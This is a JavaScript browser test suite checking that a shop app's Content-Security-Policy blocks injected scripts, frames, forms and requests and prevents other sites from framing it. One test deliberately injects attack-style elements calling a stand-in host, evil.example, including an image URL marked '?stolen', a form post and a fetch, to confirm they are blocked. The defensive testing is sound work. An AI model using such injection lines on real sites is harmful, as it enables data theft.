// The Content-Security-Policy, as a browser keeps it: what a hole in the page could be used for does not work.

import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { after, before, test } from 'node:test';
import * as flashdeal from './support.mjs';

let browser;
before(async () => {
  browser = await flashdeal.launch();
});
after(() => browser?.close());

for (const path of ['/', '/docs', '/problems/forbidden'])
  test(`${path} loads with an empty console and asks nobody else`, async () => {
    const page = await browser.newPage();
    const seen = flashdeal.watch(page);
    const answer = await page.goto(flashdeal.BASE_URL + path, { waitUntil: 'load' });
    await page.waitForTimeout(1_500); // the page polls, so it is never idle: long enough for what it asks by itself
    assert.equal(answer.status(), 200);
    const policy = answer.headers()['content-security-policy'];
    assert.match(policy, /default-src 'none'/);
    assert.match(policy, /frame-ancestors 'none'/);
    assert.doesNotMatch(policy.match(/script-src[^;]*/)[0], /unsafe|\*|http|data:/);
    assert.deepEqual(seen.foreign, []);
    // Without a token a page in mode jwt may hear 401 once, and must say so to the buyer, not to the console.
    assert.deepEqual(seen.errors.filter((each) => !each.includes('401')), []);
    await page.close();
  });

test('what a hole would put into the page does not run, load or send', async () => {
  const page = await browser.newPage();
  await page.goto(`${flashdeal.BASE_URL}/`);
  const directives = [
    'script-src-elem',
    'script-src-attr',
    'img-src',
    'frame-src',
    'object-src',
    'style-src-elem',
    'form-action',
    'connect-src',
  ];
  const blocked = await page.evaluate(async (directives) => {
    const kept = [];
    document.addEventListener('securitypolicyviolation', (each) => kept.push(each.effectiveDirective));
    const put = (name, members) => document.body.append(Object.assign(document.createElement(name), members));
    put('script', { textContent: 'window.owned = true' });
    put('script', { src: 'https://evil.example/x.js' });
    put('img', { src: 'https://evil.example/?stolen' });
    put('iframe', { src: 'https://evil.example/' });
    put('object', { data: 'https://evil.example/x' });
    put('style', { textContent: 'body { display: none }' });
    document.body.insertAdjacentHTML('beforeend', '<b onclick="window.owned = true" id="bait">x</b>');
    document.getElementById('bait').click();
    const form = document.createElement('form');
    Object.assign(form, { action: 'https://evil.example/', method: 'post' });
    document.body.append(form);
    form.submit();
    await fetch('https://evil.example/', { mode: 'no-cors' }).catch(() => {});
    // Reports come when the browser has time for them.
    const missing = () => directives.some((each) => !kept.includes(each));
    for (let turn = 0; turn < 100 && missing(); turn++) await new Promise((done) => setTimeout(done, 100));
    return { kept, owned: window.owned === true };
  }, directives);
  assert.equal(blocked.owned, false);
  for (const directive of directives)
    assert.ok(blocked.kept.includes(directive), `${directive} in ${blocked.kept}`);
  await page.close();
});

test('no other page frames ours', async () => {
  const frame = `<iframe src="${flashdeal.BASE_URL}/"></iframe>`;
  const server = createServer((_, answer) => answer.end(`<!doctype html>${frame}`)).listen(0, '127.0.0.1');
  try {
    await new Promise((done) => server.once('listening', done));
    const page = await browser.newPage();
    const said = [];
    page.on('console', (message) => said.push(message.text()));
    await page.goto(`http://127.0.0.1:${server.address().port}/`, { waitUntil: 'networkidle' });
    assert.ok(said.some((each) => each.includes('frame-ancestors')), said.join('\n'));
    const inside = page.frames().find((each) => each !== page.mainFrame());
    assert.equal(await inside.locator('[data-testid=buy]').count(), 0);
    await page.close();
  } finally {
    server.close();
  }
});
